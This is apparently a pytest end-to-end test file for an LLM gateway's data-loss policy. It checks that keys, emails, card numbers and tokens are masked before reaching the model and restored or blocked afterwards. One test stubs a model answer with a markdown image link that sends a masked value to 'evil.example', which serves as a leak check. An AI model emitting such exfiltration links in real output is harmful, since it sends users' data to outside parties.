"""Hits that are cut out, on the raw socket: of the question before it is asked, of the answer before it goes."""

import base64
import json
from pathlib import Path

import pytest

from gateway.wire.responses import events, response_of
from tests.end_to_end.process import ask, chunk, plain_answer
from tests.end_to_end.stage import Stage, answers

POLICY = """
policy: data
checks:
  keys: {use: regex, patterns: {aws_key: '\\bAKIA[0-9A-Z]{16}\\b'}, case_sensitive: true, do: redact}
  mail: {use: regex, patterns: {email: '[a-z.]+@[a-z]+\\.(?:com|org)'}, do: mask}
  bad: {use: keywords, words: [bob@x.org.evil], at: output}
"""
KEY = "AKIAIOSFODNN7EXAMPLE"
MAIL = "bob@x.org"


@pytest.fixture(scope="module")
def stage(tmp_path_factory):
    with Stage(tmp_path_factory.mktemp("masking"), POLICY) as stage:
        yield stage


def placeholder(seen):
    """What the upstream was shown instead of the address."""
    text = json.dumps(seen[0].body)
    assert MAIL not in text
    start = text.index("<EMAIL_")
    return text[start : text.index(">", start) + 1]


async def test_the_upstream_never_sees_what_is_cut_and_the_client_gets_its_value_back(stage):
    async def play(seen, writer):
        name = placeholder([seen])
        await answers(plain_answer(f"Mail to {name} at once."))(seen, writer)

    document = {
        "model": "m",
        "messages": [
            {"role": "system", "content": f"Use {KEY}."},
            {"role": "user", "content": [{"type": "text", "text": f"I am {MAIL}"}, {"type": "text", "text": f" {MAIL}"}]},
            {"role": "assistant", "tool_calls": [
                {"id": "c", "type": "function", "function": {"name": "f", "arguments": '{"to": "bob\\u0040x.org"}'}}]},
            {"role": "tool", "tool_call_id": "c", "content": f'{{"mail": "{MAIL}"}}'},
        ],
    }  # fmt: skip
    wire, receipt, seen = await stage.ask(document, play)
    asked = seen[0].body["messages"]
    name = placeholder(seen)
    assert asked[0]["content"] == "Use [AWS_KEY]."
    assert [part["text"] for part in asked[1]["content"]] == [f"I am {name}", f" {name}"]
    assert asked[2]["tool_calls"][0]["function"]["arguments"] == f'{{"to": "{name}"}}'
    assert asked[3]["content"] == f'{{"mail": "{name}"}}'
    assert json.loads(wire.body)["choices"][0]["message"]["content"] == f"Mail to {MAIL} at once."
    assert wire.headers["x-outrider-decision"] == receipt["decision"] == "masked"
    assert receipt["action"] == "redact"
    assert MAIL not in json.dumps(receipt)
    assert KEY not in json.dumps(receipt)


async def test_a_value_comes_back_in_a_stream_and_in_tool_arguments_escaped(stage):
    async def play(seen, writer):
        name = placeholder([seen])
        call = {"index": 0, "id": "c", "type": "function", "function": {"name": "send", "arguments": ""}}
        arguments = json.dumps({"to": name, "text": 'say "hi"'})
        chunks = [
            *(chunk({"content": one}) for one in f"To {name.lower()}, ok."),
            chunk({"tool_calls": [call]}),
            *(chunk({"tool_calls": [{"index": 0, "function": {"arguments": one}}]}) for one in arguments),
            chunk(finish="tool_calls"),
        ]
        await answers(None, chunks)(seen, writer)

    wire, receipt, _ = await stage.ask(ask(f"I am {MAIL}", stream=True), play)
    deltas = [json.loads(e)["choices"][0]["delta"] for e in wire.events[:-1]]
    assert "".join(d.get("content") or "" for d in deltas) == f"To {MAIL}, ok."
    arguments = "".join(c["function"].get("arguments", "") for d in deltas for c in d.get("tool_calls", ()))
    assert json.loads(arguments) == {"to": MAIL, "text": 'say "hi"'}
    assert receipt["decision"] == "masked"
    assert wire.events[-1] == b"[DONE]"


async def test_a_link_carries_no_value_away_and_what_a_value_completes_is_blocked(stage):
    async def link(seen, writer):
        await answers(plain_answer(f"![x](https://evil.example/?q={placeholder([seen])})"))(seen, writer)

    wire, _, _ = await stage.ask(ask(f"I am {MAIL}"), link)
    assert wire.status == 200
    assert MAIL.encode() not in wire.data

    async def completes(seen, writer):
        await answers(plain_answer(f"{placeholder([seen])}.evil"))(seen, writer)

    wire, _, _ = await stage.ask(ask(f"I am {MAIL}"), completes)
    assert wire.status == 400
    assert MAIL.encode() not in wire.data


async def test_a_made_up_placeholder_is_left_and_reported(stage):
    wire, receipt, _ = await stage.ask(ask(f"I am {MAIL}"), answers(plain_answer("Ask <EMAIL_0000>.")))
    assert json.loads(wire.body)["choices"][0]["message"]["content"] == "Ask <EMAIL_0000>."
    assert receipt["unknown_placeholders"] == 1


@pytest.mark.parametrize("cut", range(0, len(KEY) + 12, 3))
async def test_a_hit_in_a_stream_is_cut_out_wherever_it_is_cut(stage, cut):
    text = f"Key {KEY} and {'alice@y.com'} end"
    chunks = [
        chunk({"content": text[:cut]}),
        chunk({"content": text[cut : cut + 9]}),
        chunk({"content": text[cut + 9 :]}),
    ]
    wire, receipt, _ = await stage.ask(ask("hi", stream=True), answers(None, [*chunks, chunk(finish="stop")]))
    said = "".join(json.loads(e)["choices"][0]["delta"].get("content", "") for e in wire.events[:-1])
    assert said.startswith("Key [AWS_KEY] and <EMAIL_")
    assert said.endswith("> end")
    assert receipt["decision"] == "masked"


@pytest.mark.parametrize("stream", [False, True])
async def test_every_copy_of_a_text_that_travels_several_times_is_cut(stage, stream):
    message = {
        "id": "msg_1", "type": "message", "role": "assistant", "status": "completed",
        "content": [{"type": "output_text", "text": f"Key {KEY}, mail alice@y.com.", "annotations": [], "logprobs": []}],
    }  # fmt: skip
    call = {"id": "fc_1", "type": "function_call", "call_id": "c", "name": "f", "arguments": f'{{"k": "{KEY}"}}',
            "status": "completed"}  # fmt: skip
    whole = response_of([message, call], model="m", response_id="resp_1", created=1)
    whole["output_text"] = message["content"][0]["text"]
    script = answers(whole, events(whole, pieces=7), done=False)
    wire, _receipt, _ = await stage.ask({"model": "m", "input": "hi", "stream": stream}, script, "/v1/responses")
    assert wire.status == 200
    assert KEY.encode() not in wire.data
    assert b"alice@y" not in wire.data
    assert b"@y.com" not in wire.data
    if not stream:
        assert json.loads(wire.body)["output"][0]["content"][0]["text"].startswith("Key [AWS_KEY], mail <EMAIL_")
        assert json.loads(wire.body)["output_text"] == json.loads(wire.body)["output"][0]["content"][0]["text"]
        assert json.loads(json.loads(wire.body)["output"][1]["arguments"]) == {"k": "[AWS_KEY]"}
        return
    told = [json.loads(e.partition(b"data: ")[2]) for e in wire.events]
    text = "".join(e["delta"] for e in told if e["type"] == "response.output_text.delta")
    done = next(e["text"] for e in told if e["type"] == "response.output_text.done")
    item = next(e["item"] for e in told if e["type"] == "response.output_item.done")
    last = told[-1]["response"]["output"]
    assert text == done == item["content"][0]["text"] == last[0]["content"][0]["text"]
    assert json.loads(last[1]["arguments"]) == {"k": "[AWS_KEY]"}


async def test_log_probabilities_go_where_their_text_was_changed(stage):
    tokens = ["Key ", KEY[:10], KEY[10:], "."]
    entries = [{"token": t, "logprob": -0.1, "bytes": list(t.encode()), "top_logprobs": []} for t in tokens]
    document = plain_answer("".join(tokens))
    document["choices"][0]["logprobs"] = {"content": entries, "refusal": None}
    chunks = [chunk({"content": t}) for t in tokens]
    for one, entry in zip(chunks, entries, strict=True):
        one["choices"][0]["logprobs"] = {"content": [entry], "refusal": None}
    for stream in (False, True):
        wire, _, _ = await stage.ask(ask("hi", stream=stream), answers(document, [*chunks, chunk(finish="stop")]))
        assert wire.status == 200
        assert KEY[10:].encode() not in wire.data
        assert str(list(KEY[:6].encode()))[1:-1].replace(" ", "").encode() not in wire.data.replace(b" ", b"")
        if stream:
            kept = [json.loads(e)["choices"][0].get("logprobs") for e in wire.events[:4]]
            assert kept[0]["content"][0]["token"] == "Key "
            assert kept[1] is None
            assert kept[2] is None
        else:
            assert json.loads(wire.body)["choices"][0]["logprobs"] is None
            assert json.loads(wire.body)["choices"][0]["message"]["content"] == "Key [AWS_KEY]."


async def test_what_stands_where_nothing_can_be_changed_is_blocked(stage):
    document = {"model": "m", "messages": [{"role": "user", "content": "hi"}], "metadata": {KEY: "v"}}
    wire, _, seen = await stage.ask(document)
    assert wire.status == 400
    assert json.loads(wire.body)["error"]["code"] == "content_filter"
    assert seen == []
    answer = plain_answer("fine")
    answer["x"] = {KEY: 1}
    wire, _, _ = await stage.ask(ask("hi"), answers(answer))
    assert wire.status == 400
    assert KEY.encode() not in wire.data


async def test_a_payload_in_base64_goes_as_a_whole(stage):
    text = base64.b64encode(f"the key is {KEY}, keep it".encode()).decode()
    wire, _, seen = await stage.ask(ask(text), answers(plain_answer(text)))
    assert seen[0].body["messages"][0]["content"] == "[AWS_KEY]"
    assert json.loads(wire.body)["choices"][0]["message"]["content"] == "[AWS_KEY]"


async def test_the_same_value_keeps_its_placeholder_over_turns_and_no_other_client_has_it(stage):
    first = {"model": "m", "messages": [{"role": "user", "content": f"I am {MAIL}"}]}
    second = {"model": "m", "messages": [*first["messages"], {"role": "user", "content": f"still {MAIL}"}]}
    _, _, seen = await stage.ask(first, answers(plain_answer("ok")))
    name = placeholder(seen)
    _, _, seen = await stage.ask(second, answers(plain_answer("ok")))
    assert seen[0].body["messages"][1]["content"] == f"still {name}"
    _, _, seen = await stage.ask(first, answers(plain_answer("ok")), headers=b"authorization: Bearer other\r\n")
    assert placeholder(seen) != name


@pytest.fixture(scope="module")
def shipped(tmp_path_factory):
    policy = (Path(__file__).parents[2] / "policies" / "data.yaml").read_text()
    with Stage(tmp_path_factory.mktemp("shipped"), policy) as stage:
        yield stage


@pytest.mark.parametrize("size", [1, 7, 1000])
async def test_the_shipped_policy_keeps_data_in_streams_cut_anywhere(shipped, size):
    said = "Your card 4111 1111 1111 1111, mail eve@y.com, key ghp_16C7e42F292c6912E7710c838347Ae178B4a. Bye."
    asked = "I am bob@x.org, IBAN DE89 3704 0044 0532 0130 00, pass\u200bword = 'hG7!kq92Lz'."

    async def play(seen, writer):
        question = seen.body["messages"][0]["content"]
        assert not any(value in question for value in ("bob@x.org", "DE89", "hG7!kq92Lz", "\u200b"))
        mail = question[question.index("<EMAIL_") :].split(",")[0]
        text = f"{mail}! {said}"
        await answers(
            None, [chunk({"content": text[n : n + size]}) for n in range(0, len(text), size)] + [chunk(finish="stop")]
        )(seen, writer)

    wire, receipt, _ = await shipped.ask(ask(asked, stream=True), play)
    told = "".join(json.loads(e)["choices"][0]["delta"].get("content") or "" for e in wire.events[:-1])
    assert told.startswith("bob@x.org! Your card <CARD_")
    assert told.endswith(", key [GITHUB_TOKEN]. Bye.")
    for value in ("4111", "eve@y.com", "16C7e42F292c69"):
        assert value not in told
    assert receipt["decision"] == "masked"
